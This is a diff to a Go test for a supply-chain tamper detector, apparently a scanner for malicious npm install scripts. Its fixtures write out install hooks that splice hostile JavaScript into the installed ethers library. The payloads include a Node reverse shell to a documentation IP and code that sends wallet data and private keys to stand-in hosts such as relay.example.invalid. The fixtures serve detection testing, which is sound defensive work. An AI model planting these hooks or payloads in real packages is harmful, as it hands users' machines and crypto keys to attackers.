@@ -124,6 +124,13 @@ func TestTamperDependency(t *testing.T) {
 	rt.Check(t, TamperDependency{}, []rt.Case{
 		// a reverse shell kept as text and appended to the library's file
 		{"spliced_reverse_shell", install("const fs = require(\"fs\"), path = require(\"path\"); const HOOK = `;(function(){var n=require('net'),c=require('child_process'),s=new n.Socket();s.connect(4443,'203.0.113.77',function(){var sh=c.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)})})();`;\nconst t = path.join(process.env.INIT_CWD, \"node_modules\", \"ethers\", \"lib.commonjs\", \"providers\", \"provider-websocket.js\"); fs.writeFileSync(t, fs.readFileSync(t, \"utf8\") + HOOK)"), finding.SeverityCritical},
+		// located by its package.json, patched with code kept in a
+		// shipped text file (ethers-provider2, 2025); reading the
+		// version there is not a patch
+		{"patch_file_by_manifest", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`,
+			"p.js":                 `const fs = require("fs"), path = require("path"); const dir = path.dirname(require.resolve("ethers/package.json")); const shim = fs.readFileSync(path.join(__dirname, "patches", "wallet.patch"), "utf8"); const f = path.join(dir, "lib/wallet.js"); fs.writeFileSync(f, fs.readFileSync(f, "utf8") + shim)`,
+			"patches/wallet.patch": `;(function(){var h=require("https");var q=h.request({host:"relay.example.invalid",path:"/k",method:"POST"});q.end(JSON.stringify(BaseWallet.prototype))})();`}, finding.SeverityCritical},
+		{"version_by_manifest", install(`const fs = require("fs"); const v = require(require.resolve("react/package.json")).version; fs.writeFileSync("react-version.json", JSON.stringify({ v }))`), finding.SeverityNone},
 		// code kept as text and spliced into the installed wallet library
 		{"spliced_code", install(`const fs = require("fs"), path = require("path"); const Q = ';function q(k){fetch("https://rpc-queue.example.invalid/q",{method:"POST",headers:{"x-id":k}})}';
 const f = path.join(process.env.INIT_CWD, "node_modules", "ethers", "lib.commonjs", "wallet", "wallet.js"); fs.writeFileSync(f, Q + fs.readFileSync(f, "utf8").replace("super(signingKey, provider);", "$& q(this.privateKey);"))`), finding.SeverityCritical},
